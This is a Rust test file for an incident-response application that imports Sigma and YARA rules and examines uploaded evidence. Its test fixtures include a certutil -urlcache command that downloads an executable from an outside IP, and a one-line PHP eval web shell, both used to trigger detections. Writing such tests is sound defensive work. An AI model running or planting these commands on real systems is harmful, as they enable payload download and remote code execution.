//! Evidence examined with rules: asked for, done by a job, kept, and what a member takes of it. Sets of rules: imported,
//! silenced, every version kept.

use std::io::{Cursor, Write};

use serde_json::{Value, json};
use ungcuu_app::sensor::{examine_next, settle_built_in};
use ungcuu_kit::{args, sql};
use zip::write::{SimpleFileOptions, ZipWriter};

use crate::evidence::{form, items, latest, operator, send, sha256, upload};
use crate::incident::opened;
use crate::support::{Person, TestApp};

const RULE: &str = "title: Chương trình lạ được tải về
id: 3f0f5a3e-7d3c-4a5e-9f53-2b1d5c7a9e10
author: Tổ ứng cứu
logsource:
    product: windows
    category: process_creation
detection:
    selection:
        CommandLine|contains: urlcache
    condition: selection
level: high
";

const BROKEN: &str = "title: Viết dở
id: 4f0f5a3e-7d3c-4a5e-9f53-2b1d5c7a9e11
logsource:
    product: windows
detection:
    selection:
        Image|giong: a
    condition: selection
";

fn event(record: usize, line: &str) -> String {
    json!({ "Event": { "System": {
        "Provider": { "#attributes": { "Name": "Microsoft-Windows-Sysmon" } }, "EventID": 1,
        "Channel": "Microsoft-Windows-Sysmon/Operational", "Computer": "may-02", "EventRecordID": record,
        "TimeCreated": { "#attributes": { "SystemTime": "2023-03-15T01:02:03Z" } },
    }, "EventData": { "Image": "C:\\Windows\\System32\\certutil.exe", "CommandLine": line, "User": "MAY-02\\lan" } } })
    .to_string()
}

fn log() -> Vec<u8> {
    let lines = [
        event(1, "certutil -hashfile a"),
        event(2, "certutil -urlcache -f http://198.51.100.23/<b>a</b>.exe"),
        event(3, "certutil -urlcache -f http://198.51.100.23/b.exe"),
    ];
    (lines.join("\n") + "\n").into_bytes()
}

fn archive(files: &[(&str, &str)]) -> Vec<u8> {
    let mut archive = ZipWriter::new(Cursor::new(Vec::new()));
    for (name, text) in files {
        archive.start_file(*name, SimpleFileOptions::default()).expect("an entry");
        archive.write_all(text.as_bytes()).expect("written");
    }
    archive.finish().expect("an archive").into_inner()
}

async fn member(app: &TestApp) -> Person {
    app.person("Ngô Thanh Tùng", "to-ung-cuu", &["thanh_vien_to"]).await
}

async fn import(app: &TestApp, who: &Person, name: &str, files: &[(&str, &str)]) -> crate::support::Answer {
    let archive = archive(files);
    let body = form(who, &[("name", name)], &[("quy-tac.zip", &archive)]);
    send(app, who, "/rule-sets/import", body).await
}

/// A member with a set of rules, and the page of a log in an incident.
async fn ready(app: &TestApp) -> (Person, Person, String, String, String) {
    let (operator, member) = (operator(app).await, member(app).await);
    let set = import(app, &member, "Của Tổ", &[("a/certutil.yml", RULE), ("do-dang.yml", BROKEN)]).await.place();
    let set = set.rsplit('/').next().expect("an id").to_owned();
    let id = opened(app, &operator).await;
    upload(app, &operator, &id, &[], &[("su-kien.jsonl", &log())]).await.place();
    let page = latest(app, &operator, &id).await;
    (operator, member, id, page, set)
}

async fn shown(app: &TestApp, who: &Person, page: &str) -> Value {
    let answer = app.get(Some(who), &format!("/api/v1{page}")).await;
    answer.is(200);
    answer.json()
}

#[tokio::test]
async fn a_log_is_examined_by_a_job_and_its_result_is_evidence_that_points_to_it() {
    let app = TestApp::new().await;
    let (operator, _, id, page, set) = ready(&app).await;
    app.get(Some(&operator), &page).await.is(200).shows("Khám xét").shows("Của Tổ");
    let asked = app.post(Some(&operator), &format!("{page}/examine"), &[("set", &set)]).await.place();
    app.get(Some(&operator), &asked).await.is(200).shows("Đang khám xét").shows("Dừng khám xét").shows("data-progress");
    app.get(Some(&operator), &page).await.shows("Phân tích, giám định").shows("Của Tổ (bản 1)");

    assert!(examine_next(&app.app).await.expect("examined"));
    assert!(!examine_next(&app.app).await.expect("asked"), "nothing else waits");
    let done = app.get(Some(&operator), &asked).await;
    done.is(200).shows("Chương trình lạ được tải về").shows("2 phát hiện").shows("may-02").shows("CC-02");
    done.shows("phiên bản 1").shows("Tổ ứng cứu").hides("Đang khám xét");
    done.hides("<b>a</b>");

    let all = items(&app, &operator, &id).await;
    assert_eq!(all.len(), 2);
    let result = &all[0];
    assert_eq!(result["taken_from_number"], 1);
    assert_eq!(result["collected_by"], "Nguyễn Văn Vận");
    let path = format!("/incidents/{id}/evidence/{}/file", result["id"].as_str().expect("an id"));
    let bytes = app.file(&operator, &path).await;
    let lines: Vec<Value> =
        bytes.split(|byte| *byte == b'\n').filter_map(|line| serde_json::from_slice(line).ok()).collect();
    assert_eq!(lines.len(), 3, "what it is a result of, and the findings");
    assert_eq!(lines[0]["examination"]["sha256"], sha256(&log()));
    assert_eq!(lines[0]["examination"]["rules_version"], 1);
    assert_eq!((&lines[1]["file"], &lines[1]["record"]), (&"su-kien.jsonl".into(), &2.into()));
    let source = format!("/incidents/{id}/evidence/{}", result["id"].as_str().expect("an id"));
    app.get(Some(&operator), &source).await.shows("Kết quả khám xét").shows("một lần khám xét");
    let notices = app.get(Some(&operator), "/api/v1/notices").await.body;
    assert!(notices.contains("Khám xét CC-01 xong: 2 phát hiện"), "{notices}");
    app.assert_sound().await;
}

#[tokio::test]
async fn what_a_member_ticks_enters_the_timeline_at_the_moment_of_the_log_once() {
    let app = TestApp::new().await;
    let (operator, _, id, page, set) = ready(&app).await;
    let asked = app.post(Some(&operator), &format!("{page}/examine"), &[("set", &set)]).await.place();
    examine_next(&app.app).await.expect("examined");
    let found = shown(&app, &operator, &asked).await;
    let first = found["findings"][0]["id"].as_str().expect("a finding").to_owned();
    assert!(found["signs"].to_string().contains("198.51.100.23"), "{}", found["signs"]);
    app.post(Some(&operator), &format!("{asked}/take"), &[]).await.is(409).shows("Chưa chọn mục nào");
    let ticked = [("pick", first.as_str()), ("signs", "198.51.100.23")];
    let done = app.post(Some(&operator), &format!("{asked}/take"), &ticked).await;
    assert_eq!(done.said(), "Đã đưa 1 phát hiện vào diễn biến, 1 dấu hiệu vào danh sách.");
    app.post(Some(&operator), &format!("{asked}/take"), &ticked).await.is(409).shows("đã được đưa vào rồi");
    let timeline = app.get(Some(&operator), &format!("/incidents/{id}/timeline")).await;
    timeline.is(200).shows("Chương trình lạ được tải về – may-02").shows("2023-03-15T08:02:03+07:00");
    app.get(Some(&operator), &format!("/incidents/{id}/indicators")).await.shows("198[.]51[.]100[.]23");
    app.get(Some(&operator), &asked).await.shows("đã vào diễn biến");
    let foreign = [("pick", "fnd_00000000000000000000000000")];
    app.post(Some(&operator), &format!("{asked}/take"), &foreign).await.is(404);
    app.assert_sound().await;
}

#[tokio::test]
async fn an_examination_survives_a_restart_can_be_stopped_and_gives_up_after_three_times() {
    let app = TestApp::new().await;
    let (operator, _, id, page, set) = ready(&app).await;
    let path = format!("{page}/examine");
    let stopped = app.post(Some(&operator), &path, &[("set", &set)]).await.place();
    app.post(Some(&operator), &format!("{stopped}/cancel"), &[]).await.place();
    assert!(!examine_next(&app.app).await.expect("asked"), "a stopped one is not begun");
    app.get(Some(&operator), &stopped).await.shows("Đã dừng giữa chừng");
    app.post(Some(&operator), &format!("{stopped}/cancel"), &[]).await.is(409);

    // The process that held it died: after a while another takes it up.
    let cut_off = app.post(Some(&operator), &path, &[("set", &set)]).await.place();
    let held = app.app.now().plus(60 * 1_000_000);
    hold(&app, held, 1).await;
    assert!(!examine_next(&app.app).await.expect("asked"), "somebody is at it");
    app.app.clock.advance(61 * 1_000_000);
    assert!(examine_next(&app.app).await.expect("examined"));
    app.get(Some(&operator), &cut_off).await.shows("2 phát hiện");

    let hopeless = app.post(Some(&operator), &path, &[("set", &set)]).await.place();
    hold(&app, app.app.now().plus(-1), 3).await;
    assert!(examine_next(&app.app).await.expect("given up"));
    app.get(Some(&operator), &hopeless).await.shows("Không khám xét được").shows("ngắt ba lần");
    assert_eq!(items(&app, &operator, &id).await.len(), 2, "only what was done is kept");
    app.assert_sound().await;
}

async fn hold(app: &TestApp, until: ungcuu_kit::time::Time, tries: i64) {
    let mut tx = app.app.db.write().await.expect("write");
    let sql = sql!("UPDATE examination_runs SET claimed_until = $1, tries = $2 WHERE tries = 0");
    tx.run(sql, args![until, tries]).await.expect("held");
    tx.commit().await.expect("committed");
}

#[tokio::test]
async fn a_sample_is_examined_but_never_shown_and_what_is_under_seal_is_neither() {
    let app = TestApp::new().await;
    let (operator, _, id, _, set) = ready(&app).await;
    upload(&app, &operator, &id, &[("malicious", "on")], &[("mau.jsonl", &log())]).await.place();
    let sample = latest(&app, &operator, &id).await;
    let asked = app.post(Some(&operator), &format!("{sample}/examine"), &[("set", &set)]).await.place();
    examine_next(&app.app).await.expect("examined");
    app.get(Some(&operator), &asked).await.shows("2 phát hiện");
    app.get(Some(&operator), &format!("{sample}/file")).await.is(409);

    upload(&app, &operator, &id, &[], &[("niem-phong.log", b"a")]).await.place();
    let sealed = latest(&app, &operator, &id).await;
    app.api(Some(&operator), &format!("{sealed}/acts"), json!({ "kind": "seal", "seal": "0117" })).await.is(200);
    app.post(Some(&operator), &format!("{sealed}/examine"), &[]).await.is(409).shows("niêm phong");
    let thing = json!({ "kind": "device", "name": "Ổ cứng", "source": "máy 2" });
    app.api(Some(&operator), &format!("/incidents/{id}/evidence/add"), thing).await.is(200);
    let thing = latest(&app, &operator, &id).await;
    app.post(Some(&operator), &format!("{thing}/examine"), &[]).await.is(409).shows("không có tệp");
    let outsider = app.person("Người Ngoài", "xa-my-hiep", &["van_hanh"]).await;
    app.post(Some(&outsider), &format!("{sample}/examine"), &[]).await.is(404);
    app.get(Some(&outsider), &asked).await.is(404);
    app.assert_sound().await;
}

#[tokio::test]
async fn a_set_keeps_its_versions_and_a_silenced_rule_finds_nothing() {
    let app = TestApp::new().await;
    let (operator, member, _, page, set) = ready(&app).await;
    let place = format!("/rule-sets/{set}");
    app.get(Some(&member), &place).await.is(200).shows("Chương trình lạ được tải về").shows("không dùng được");
    app.get(Some(&member), &format!("{place}/refused")).await.is(200).shows("do-dang.yml").shows("giong");
    import(&app, &member, "của tổ", &[("a/certutil.yml", RULE), ("do-dang.yml", BROKEN)]).await.is(409);
    import(&app, &member, "Của Tổ", &[("certutil.yml", &RULE.replace("high", "low"))]).await.place();
    let now = shown(&app, &member, &place).await;
    assert_eq!((now["set"]["active"].clone(), now["versions"].as_array().map(Vec::len)), (json!(2), Some(2)));
    let version = now["set"]["version"].to_string();
    app.post(Some(&member), &format!("{place}/choose"), &[("number", "1"), ("version", &version)]).await.place();

    let now = shown(&app, &member, &place).await;
    let rule = now["rules"][0]["id"].as_str().expect("a rule").to_owned();
    let silence = format!("{place}/rules/{rule}/silence");
    app.post(Some(&member), &silence, &[("version", "0")]).await.is(422);
    let reason = [("reason", "phần mềm của huyện làm vậy"), ("version", "0")];
    app.post(Some(&member), &silence, &reason).await.place();
    app.get(Some(&member), &place).await.shows("Đã tắt");
    let asked = app.post(Some(&operator), &format!("{page}/examine"), &[("set", &set)]).await.place();
    examine_next(&app.app).await.expect("examined");
    app.get(Some(&operator), &asked).await.shows("Không phát hiện gì").shows("của quy tắc đã tắt").shows("phiên bản 1");
    let resume = format!("{place}/rules/{rule}/resume");
    app.post(Some(&member), &resume, &[("reason", "đã gỡ phần mềm"), ("version", "1")]).await.place();
    let asked = app.post(Some(&operator), &format!("{page}/examine"), &[("set", &set)]).await.place();
    examine_next(&app.app).await.expect("examined");
    app.get(Some(&operator), &asked).await.shows("2 phát hiện");
    app.get(Some(&member), &format!("{place}/rules/{rule}")).await.shows("2 lần").shows("đã gỡ phần mềm");
    app.post(Some(&operator), &resume, &reason).await.is(403);
    app.assert_sound().await;
}

const YARA: &str = "rule ma_doc_thue {
  meta:
    description = \"Chương trình giả danh thông báo thuế\"
    level = \"critical\"
    author = \"Tổ ứng cứu\"
  strings:
    $a = \"thong-bao-thue\"
    $b = \"http://198.51.100.23/\"
  condition: all of them
}
rule viet_do { strings: $a = \"x\" condition: $b }
";

#[tokio::test]
async fn a_sample_is_held_against_rules_for_files_and_its_hash_becomes_an_indicator() {
    let app = TestApp::new().await;
    let (operator, member) = (operator(&app).await, member(&app).await);
    let id = opened(&app, &operator).await;
    let set = import(&app, &member, "Mã độc", &[("a/thue.yar", YARA)]).await.place();
    app.get(Some(&member), &set)
        .await
        .is(200)
        .shows("Tệp (YARA)")
        .shows("ma_doc_thue")
        .shows("giả danh")
        .hides("Nhật ký");
    app.get(Some(&member), &format!("{set}/refused"))
        .await
        .is(200)
        .shows("a/thue.yar")
        .hides("Mọi quy tắc đều dùng được");
    import(&app, &member, "Mã độc", &[("a.yml", RULE)]).await.is(422).shows("Bộ có tên này là về Tệp (YARA)");

    let bytes = b"MZ thong-bao-thue http://198.51.100.23/a.exe";
    let packed = archive(&[("trong/mau.exe", std::str::from_utf8(bytes).expect("text"))]);
    upload(&app, &operator, &id, &[("malicious", "on")], &[("mau.bin", &packed)]).await.place();
    let sample = latest(&app, &operator, &id).await;
    let set = set.rsplit('/').next().expect("an id");
    let asked = app.post(Some(&operator), &format!("{sample}/examine"), &[("set", set)]).await.place();
    assert!(examine_next(&app.app).await.expect("examined"));
    let done = app.get(Some(&operator), &asked).await;
    done.is(200).shows("1 phát hiện").shows("mau.bin!trong/mau.exe").shows("Chương trình giả danh thông báo thuế");
    done.shows("tệp bên trong").hides("sự kiện");
    let found = shown(&app, &operator, &asked).await;
    let hash = sha256(bytes);
    assert!(found["signs"].to_string().contains(&hash), "{}", found["signs"]);
    let finding = found["findings"][0]["id"].as_str().expect("a finding");
    let ticked = [("pick", finding), ("signs", hash.as_str())];
    app.post(Some(&operator), &format!("{asked}/take"), &ticked).await.place();
    app.get(Some(&operator), &format!("/incidents/{id}/timeline")).await.shows("Thời điểm trên là lúc thu chứng cứ");
    app.get(Some(&operator), &format!("/incidents/{id}/indicators")).await.shows(&hash);

    let all = items(&app, &operator, &id).await;
    let path = format!("/incidents/{id}/evidence/{}/file", all[0]["id"].as_str().expect("an id"));
    let result = String::from_utf8(app.file(&operator, &path).await).expect("text");
    assert!(!result.contains("modified") && !result.contains("blobs"), "{result}");
    app.assert_sound().await;
}

#[tokio::test]
async fn an_item_that_is_no_log_is_examined_with_the_built_in_rules_for_files() {
    let app = TestApp::new().await;
    let operator = operator(&app).await;
    let id = opened(&app, &operator).await;
    upload(&app, &operator, &id, &[], &[("index.php", b"<?php @eval($_POST['x']); ?>")]).await.place();
    let page = latest(&app, &operator, &id).await;
    app.get(Some(&operator), &page).await.is(200).shows("Bộ quy tắc tìm mã độc có sẵn").hides("Nhật ký (Sigma)");
    let asked = app.post(Some(&operator), &format!("{page}/examine"), &[]).await.place();
    assert!(examine_next(&app.app).await.expect("examined"));
    app.get(Some(&operator), &asked).await.is(200).shows("1 phát hiện").shows("Cần làm");
    app.assert_sound().await;
}

#[tokio::test]
async fn what_holds_no_log_is_not_told_as_if_nothing_had_been_found() {
    let app = TestApp::new().await;
    let (operator, _, id, _, set) = ready(&app).await;
    upload(&app, &operator, &id, &[], &[("ghi-chep.txt", "Gọi điện lúc 8 giờ, không ai nghe máy.\n".as_bytes())])
        .await
        .place();
    let page = latest(&app, &operator, &id).await;
    let asked = app.post(Some(&operator), &format!("{page}/examine"), &[("set", &set)]).await.place();
    assert!(examine_next(&app.app).await.expect("examined"));
    let told = app.get(Some(&operator), &asked).await;
    told.is(200).shows("Không khám xét được").shows("không có nhật ký nào máy đọc được").hides("Không phát hiện gì");
    assert_eq!(items(&app, &operator, &id).await.len(), 2, "nothing is kept of it");

    settle_built_in(&app.app).await.expect("noted");
    let empty = archive(&[]);
    upload(&app, &operator, &id, &[("malicious", "on")], &[("mau.zip", &empty)]).await.place();
    let sample = latest(&app, &operator, &id).await;
    let body = app.get(Some(&operator), &sample).await.body;
    let (files, logs) = (body.find("Tệp (YARA)"), body.find("Nhật ký (Sigma)"));
    assert!(files.expect("for files") < logs.expect("for logs"), "a sample is a file first");
    let asked = app.post(Some(&operator), &format!("{sample}/examine"), &[]).await.place();
    assert!(examine_next(&app.app).await.expect("examined"));
    app.get(Some(&operator), &asked).await.is(200).shows("Không phát hiện gì").shows("tìm mã độc có sẵn");
    app.assert_sound().await;
}

#[tokio::test]
async fn what_is_no_set_of_rules_is_refused_beside_its_field() {
    let app = TestApp::new().await;
    let member = member(&app).await;
    let body = form(&member, &[("name", "x")], &[("a.zip", b"not an archive")]);
    send(&app, &member, "/rule-sets/import", body).await.is(422).shows("không đọc được như một bộ quy tắc");
    app.get(Some(&member), "/rule-sets").await.is(200).shows("Chưa có bộ quy tắc nào");
    import(&app, &member, "x", &[("doc-toi.txt", "xin chào")]).await.is(422).shows("không có quy tắc nào dùng được");
    import(&app, &member, "x", &[("do-dang.yml", BROKEN)]).await.is(422).shows("do-dang.yml");
    import(&app, &member, "Bộ quy tắc có sẵn", &[("a.yml", RULE)]).await.is(422).shows("của bộ quy tắc có sẵn");
    let both = import(&app, &member, "Lẫn lộn", &[("a.yml", RULE), ("b.yar", YARA)]).await.place();
    app.get(Some(&member), &format!("{both}/refused")).await.is(200).shows("b.yar").shows("a set of its own");
    settle_built_in(&app.app).await.expect("noted");
    settle_built_in(&app.app).await.expect("noted once");
    app.get(Some(&member), "/rule-sets").await.is(200).shows("Bộ quy tắc có sẵn").shows("tìm mã độc có sẵn");
    app.assert_sound().await;
}
